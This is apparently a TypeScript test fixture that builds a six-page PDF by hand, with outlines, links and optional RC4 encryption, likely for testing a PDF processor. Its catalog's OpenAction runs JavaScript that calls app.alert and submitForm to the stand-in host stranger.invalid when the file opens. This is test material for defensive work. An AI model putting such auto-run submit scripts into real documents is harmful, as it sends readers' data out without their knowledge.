import { createHash } from 'node:crypto';

/**
 * A PDF of six pages, written by hand after ISO 32000-1: text in fonts that are not in the file,
 * contents, a link to a page, a link to a site, and scripts that want to run when it is opened.
 */
export function makePdf({
  password,
  spareBytes = 0,
}: {
  /** It is encrypted with this one, by the oldest way: RC4 with 40 bits. */
  readonly password?: string;
  /** The size of an object in the middle that no page needs. */
  readonly spareBytes?: number;
} = {}): Buffer {
  const count = 6;
  const [catalog, tree, outlines, first, second, font, script, spare] = [1, 2, 3, 4, 5, 6, 7, 8];
  const pageId = (at: number): number => 10 + at * 4;
  const objects = new Map<number, string>([
    [
      catalog,
      `<</Type/Catalog/Pages ${tree} 0 R/Outlines ${outlines} 0 R/OpenAction ${script} 0 R>>`,
    ],
    [
      tree,
      `<</Type/Pages/Count ${count}/Kids[${pageIds()
        .map((id) => `${id} 0 R`)
        .join(' ')}]>>`,
    ],
    [outlines, `<</Count 2/First ${first} 0 R/Last ${second} 0 R>>`],
    [
      first,
      `<</Title(The coast)/Parent ${outlines} 0 R/Next ${second} 0 R/Dest[${pageId(0)} 0 R/Fit]>>`,
    ],
    [
      second,
      `<</Title(The islands)/Parent ${outlines} 0 R/Prev ${first} 0 R/Dest[${pageId(2)} 0 R/Fit]>>`,
    ],
    [font, '<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>'],
    [
      script,
      '<</S/JavaScript/JS(app.alert\\(1\\); this.submitForm\\("http://stranger.invalid/"\\);)>>',
    ],
  ]);
  if (spareBytes > 0) objects.set(spare, stream('.'.repeat(spareBytes)));
  for (let at = 0; at < count; at += 1) {
    const id = pageId(at);
    const words = at === 0 ? 'The first page of the atlas' : `Page ${at + 1} of the atlas`;
    objects.set(
      id,
      `<</Type/Page/Parent ${tree} 0 R/MediaBox[0 0 400 600]/Contents ${id + 1} 0 R/Annots[${id + 2} 0 R]` +
        `/Resources<</Font<</F ${font} 0 R>>>>>>`,
    );
    objects.set(
      id + 1,
      stream(`BT /F 24 Tf 40 500 Td (${words}) Tj ET 1 0 0 rg 40 200 200 100 re f`),
    );
    const action =
      at === 0
        ? '/A<</S/URI/URI(https://stranger.invalid/map?of=1)>>'
        : `/Dest[${pageId(3)} 0 R/Fit]`;
    objects.set(id + 2, `<</Type/Annot/Subtype/Link/Border[0 0 0]/Rect[40 200 240 300]${action}>>`);
  }
  const lock = password === undefined ? undefined : lockOf(password);
  const parts = ['%PDF-1.4\n'];
  let length = parts[0]?.length ?? 0;
  const places = new Map<number, number>();
  for (const [id, body] of objects) {
    places.set(id, length);
    const text = `${id} 0 obj\n${lock?.seal(id, body) ?? body}\nendobj\n`;
    parts.push(text);
    length += text.length;
  }
  const size = pageId(count);
  const line = (id: number): string =>
    places.has(id)
      ? `${String(places.get(id)).padStart(10, '0')} 00000 n \n`
      : '0000000000 65535 f \n';
  parts.push(
    `xref\n0 ${size}\n${Array.from({ length: size }, (_, id) => line(id)).join('')}`,
    `trailer\n<</Size ${size}/Root ${catalog} 0 R${lock?.trailer ?? ''}>>\nstartxref\n${length}\n%%EOF\n`,
  );
  return Buffer.from(parts.join(''), 'latin1');

  function pageIds(): readonly number[] {
    return Array.from({ length: count }, (_, at) => pageId(at));
  }
}

const stream = (text: string): string => `<</Length ${text.length}>>stream\n${text}\nendstream`;

interface Lock {
  /** What the trailer says of it. */
  readonly trailer: string;
  /** An object with its strings and its stream encrypted. */
  readonly seal: (id: number, body: string) => string;
}

const md5 = (...parts: readonly Uint8Array[]): Buffer =>
  createHash('md5').update(Buffer.concat(parts)).digest();

function rc4(key: Uint8Array, bytes: Uint8Array): Buffer {
  const state = Uint8Array.from({ length: 256 }, (_, at) => at);
  const swap = (one: number, other: number): void => {
    [state[one], state[other]] = [state[other] ?? 0, state[one] ?? 0];
  };
  for (let [at, to] = [0, 0]; at < 256; at += 1) {
    to = (to + (state[at] ?? 0) + (key[at % key.length] ?? 0)) % 256;
    swap(at, to);
  }
  let [one, other] = [0, 0];
  return Buffer.from(bytes).map((byte) => {
    one = (one + 1) % 256;
    other = (other + (state[one] ?? 0)) % 256;
    swap(one, other);
    return byte ^ (state[((state[one] ?? 0) + (state[other] ?? 0)) % 256] ?? 0);
  }) as Buffer;
}

/** What a password is made 32 bytes long with (ISO 32000-1, algorithm 2). */
const padding = Buffer.from(
  '28bf4e5e4e758a4164004e56fffa01082e2e00b6d0683e802f0ca9fe6453697a',
  'hex',
);

/** Encryption by revision 2 of the standard handler (ISO 32000-1, algorithms 1 to 4). */
function lockOf(password: string): Lock {
  const padded = Buffer.concat([Buffer.from(password, 'latin1'), padding]).subarray(0, 32);
  const owner = rc4(md5(padded).subarray(0, 5), padded);
  const [powers, id] = [-4, Buffer.alloc(16, 7)];
  const allowed = Buffer.alloc(4);
  allowed.writeInt32LE(powers);
  const key = md5(padded, owner, allowed, id).subarray(0, 5);
  const [o, u, i] = [owner, rc4(key, padding), id].map((bytes) => bytes.toString('hex'));
  return {
    trailer: `/Encrypt<</Filter/Standard/V 1/R 2/P ${powers}/O<${o}>/U<${u}>>>/ID[<${i}><${i}>]`,
    seal: (object, body) => {
      const own = md5(key, Buffer.from([object, object >> 8, object >> 16, 0, 0])).subarray(0, 10);
      const sealed = (text: string): Buffer => rc4(own, Buffer.from(text, 'latin1'));
      const [dictionary = '', content] = body.split('stream\n', 2);
      const strings = dictionary.replaceAll(
        /\(((?:\\.|[^()\\])*)\)/g,
        (_, text: string) => `<${sealed(text.replaceAll(/\\(.)/g, '$1')).toString('hex')}>`,
      );
      if (content === undefined) return strings;
      const plain = content.slice(0, -'\nendstream'.length);
      return `${strings}stream\n${sealed(plain).toString('latin1')}\nendstream`;
    },
  };
}
